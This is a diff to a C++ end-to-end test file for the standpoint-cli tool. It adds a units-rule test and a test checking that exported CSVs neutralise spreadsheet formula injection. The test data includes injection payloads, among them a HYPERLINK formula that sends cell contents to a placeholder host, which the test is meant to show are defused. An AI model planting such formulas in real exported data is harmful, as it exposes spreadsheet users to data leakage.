@@ -1,6 +1,7 @@
 // SPDX-License-Identifier: MIT
 // Copyright (c) 2026 The Standpoint authors
 // standpoint-cli end to end, as a user runs it.
+#include "core/text/csvreader.h"
 #include "tests/support/testpack.h"
 
 #include <QDir>
@@ -12,6 +13,8 @@
 #include <QJsonDocument>
 #include <QJsonObject>
 #include <QProcess>
+
+#include <tuple>
 
 namespace {
 
@@ -45,6 +48,13 @@ class Cli : public ::testing::Test
 {
 protected:
     QString db() const { return m_temp.path(); }
+    // standpoint-cli on this test's store.
+    CliRun inStore(QStringList arguments) const
+    {
+        arguments.prepend(db());
+        arguments.prepend(QStringLiteral("--db"));
+        return cli(arguments);
+    }
     void init()
     {
         const CliRun r = cli({QStringLiteral("--db"), db(), QStringLiteral("init")});
@@ -52,6 +62,14 @@ protected:
     }
     standpoint::fixtures::TempStore m_temp;
 };
+
+QString writeFile(const QString &path, const QByteArray &bytes)
+{
+    QFile f(path);
+    EXPECT_TRUE(f.open(QIODevice::WriteOnly)) << path.toStdString();
+    f.write(bytes);
+    return path;
+}
 
 bool oneLine(const QByteArray &err)
 {
@@ -316,7 +334,7 @@ TEST_F(Cli, UsersOwnSeriesAreValidatedStoredAndDrawn)
     const CliRun csv = cli({QStringLiteral("--db"), db(), QStringLiteral("chart"), QStringLiteral("trade-turnover"),
                             QStringLiteral("--csv"), QStringLiteral("--with"), QStringLiteral("mine")});
     ASSERT_EQ(csv.exitCode, 0) << csv.err.toStdString();
-    EXPECT_TRUE(csv.out.contains("\"mine\",\"user\",\"2021\",\"150\""));
+    EXPECT_TRUE(csv.out.contains("mine,user,2021,150,")) << csv.out.toStdString();
     const CliRun removed = cli({QStringLiteral("--db"), db(), QStringLiteral("series"), QStringLiteral("remove"),
                                 QStringLiteral("mine")});
     EXPECT_EQ(removed.exitCode, 0);
@@ -533,4 +551,119 @@ TEST_F(Cli, DrawingCommandsNeedTheDrawingToolAndSaySoWhenItIsMissing)
                               QStringLiteral("--out"), png});
     EXPECT_EQ(drawn.exitCode, 0) << drawn.err.toStdString();
     EXPECT_FALSE(QImage(png).isNull());
+}
+
+// The units rule, as the command line follows it: a chart drawn with a series the user names refuses
+// one of another unit; a deck leaves that series out of the slide and says so.
+TEST_F(Cli, ASeriesOfAnotherUnitIsRefusedOnAChartAndLeftOutOfADeck)
+{
+    init();
+    QTemporaryDir dir;
+    const QString file = writeFile(dir.filePath(QStringLiteral("growth.csv")), "year,value\n2021,35\n2022,29\n");
+    ASSERT_EQ(inStore({QStringLiteral("series"), QStringLiteral("add"), file, QStringLiteral("--title"), QStringLiteral("My growth"),
+                   QStringLiteral("--unit"), QStringLiteral("percent")})
+                  .exitCode,
+              0);
+    const CliRun refused = inStore({QStringLiteral("chart"), QStringLiteral("trade-turnover"), QStringLiteral("--csv"),
+                                QStringLiteral("--with"), QStringLiteral("my-growth")});
+    EXPECT_EQ(refused.exitCode, 1);
+    EXPECT_TRUE(oneLine(refused.err)) << refused.err.toStdString();
+    for (const char *named : {"My growth", "percent", "USD bn"})
+        EXPECT_TRUE(refused.err.contains(named)) << named << ": " << refused.err.toStdString();
+    EXPECT_TRUE(refused.out.isEmpty());
+
+    const QString deck = dir.filePath(QStringLiteral("d.pptx"));
+    const CliRun written = inStore({QStringLiteral("deck"), QStringLiteral("--charts"), QStringLiteral("trade-turnover,yuan"),
+                                QStringLiteral("--with"), QStringLiteral("my-growth"), QStringLiteral("--out"), deck});
+    EXPECT_EQ(written.exitCode, 0) << written.err.toStdString();
+    EXPECT_TRUE(QFile::exists(deck));
+    // Named once, for the time chart; the bar chart takes no series and has nothing to say of it.
+    EXPECT_EQ(written.err.count("left out of the deck"), 1) << written.err.toStdString();
+    EXPECT_TRUE(written.err.contains("My growth")) << written.err.toStdString();
+}
+
+// Issue 18's acceptance: a shared .standpoint file whose notes begin with =, +, - and @ is imported,
+// and every CSV the program writes from them holds them as text, not as formulas a spreadsheet runs.
+TEST_F(Cli, CsvIsNeutralised)
+{
+    init();
+    QTemporaryDir dir;
+    const QStringList dangerous = {QStringLiteral("=HYPERLINK(\"http://x\"&A1,\"click\")"), QStringLiteral("+1+1"),
+                                   QStringLiteral("-2+3"), QStringLiteral("@SUM(A1:A9)")};
+    // A set file as another machine writes it: this store's own export gives real anchors to build on.
+    ASSERT_EQ(inStore({QStringLiteral("set"), QStringLiteral("create"), QStringLiteral("Base")}).exitCode, 0);
+    ASSERT_EQ(inStore({QStringLiteral("set"), QStringLiteral("add"), QStringLiteral("1"), QStringLiteral("excerpt"),
+                   QStringLiteral("gabuev-2024:0-70")})
+                  .exitCode,
+              0);
+    const QString base = dir.filePath(QStringLiteral("base.standpoint"));
+    ASSERT_EQ(inStore({QStringLiteral("set"), QStringLiteral("export"), QStringLiteral("1"), QStringLiteral("--out"), base}).exitCode, 0);
+    QFile baseFile(base);
+    ASSERT_TRUE(baseFile.open(QIODevice::ReadOnly));
+    QJsonObject root = QJsonDocument::fromJson(baseFile.readAll()).object();
+    QJsonObject set = root[QStringLiteral("set")].toObject();
+    const QJsonObject excerpt = set[QStringLiteral("items")].toArray().first().toObject();
+    QJsonArray items, annotations;
+    for (qsizetype i = 0; i < dangerous.size(); ++i) {
+        QJsonObject item = excerpt;
+        item[QStringLiteral("note")] = dangerous[i];
+        items << item;
+        annotations << QJsonObject{{QStringLiteral("uuid"), QStringLiteral("00000000-0000-4000-8000-00000000000%1").arg(i)},
+                                   {QStringLiteral("anchor"), excerpt[QStringLiteral("anchor")]},
+                                   {QStringLiteral("color"), QStringLiteral("yellow")},
+                                   {QStringLiteral("tags"), QJsonArray{dangerous[i]}},
+                                   {QStringLiteral("note"), dangerous[i]}};
+    }
+    set[QStringLiteral("uuid")] = QStringLiteral("00000000-0000-4000-8000-0000000000ff");
+    set[QStringLiteral("title")] = QStringLiteral("=Shared");
+    set[QStringLiteral("items")] = items;
+    root[QStringLiteral("set")] = set;
+    root[QStringLiteral("annotations")] = annotations;
+    const QString shared = writeFile(dir.filePath(QStringLiteral("shared.standpoint")), QJsonDocument(root).toJson());
+    const CliRun imported = inStore({QStringLiteral("set"), QStringLiteral("import"), shared});
+    ASSERT_EQ(imported.exitCode, 0) << imported.err.toStdString();
+
+    // A user's series for the chart data: its notes and its file's name are user text too.
+    const QString series = writeFile(dir.filePath(QStringLiteral("@series.csv")),
+                                     "year,value,note\n2019,-5,\"=HYPERLINK(\"\"http://x\"\"&A1,\"\"click\"\")\"\n"
+                                     "2020,100,+1+1\n2021,110,-2+3\n2022,120,@SUM(A1:A9)\n");
+    ASSERT_EQ(inStore({QStringLiteral("series"), QStringLiteral("add"), series, QStringLiteral("--title"), QStringLiteral("Mine"),
+                   QStringLiteral("--unit"), QStringLiteral("USD bn")})
+                  .exitCode,
+              0);
+
+    const QString annotationsCsv = dir.filePath(QStringLiteral("a.csv"));
+    ASSERT_EQ(inStore({QStringLiteral("annotations"), QStringLiteral("export"), QStringLiteral("--out"), annotationsCsv}).exitCode, 0);
+    QFile annotationsFile(annotationsCsv);
+    ASSERT_TRUE(annotationsFile.open(QIODevice::ReadOnly));
+    const CliRun chart = inStore({QStringLiteral("chart"), QStringLiteral("trade-turnover"), QStringLiteral("--csv"),
+                              QStringLiteral("--with"), QStringLiteral("mine")});
+    ASSERT_EQ(chart.exitCode, 0) << chart.err.toStdString();
+
+    for (const auto &[name, bytes, column, expected] :
+         {std::tuple{"annotations", annotationsFile.readAll(), "note", dangerous.size()},
+          std::tuple{"chart data", chart.out, "quote", dangerous.size()}}) {
+        auto table = standpoint::text::parseCsv(QString::fromUtf8(bytes), QString::fromUtf8(name));
+        ASSERT_TRUE(table.ok()) << table.message().toStdString();
+        QStringList found;
+        for (const standpoint::text::CsvRow &row : table->rows) {
+            for (const QString &field : row.fields) {
+                // No cell a spreadsheet would read as a formula, in any column; a number the program
+                // wrote (a negative figure) is data.
+                bool number = false;
+                field.toDouble(&number);
+                EXPECT_FALSE(!number && !field.isEmpty() && QStringLiteral("=+-@\t\r").contains(field.front()))
+                    << name << ": " << field.toStdString();
+                if (dangerous.contains(field.mid(1)) && field.startsWith(QLatin1Char('\'')))
+                    found << field.mid(1);
+            }
+        }
+        // Each dangerous note is there, kept whole behind its quote mark.
+        for (const QString &d : dangerous)
+            EXPECT_TRUE(found.contains(d)) << name << ": " << d.toStdString() << " is missing from " << column;
+        EXPECT_GE(found.size(), qsizetype(expected)) << name;
+    }
+    // The file's name and the negative figure: the first is text and neutralised, the second a number.
+    EXPECT_TRUE(chart.out.contains(",'@series.csv,")) << chart.out.toStdString();
+    EXPECT_TRUE(chart.out.contains("user,2019,-5,USD bn")) << chart.out.toStdString();
 }
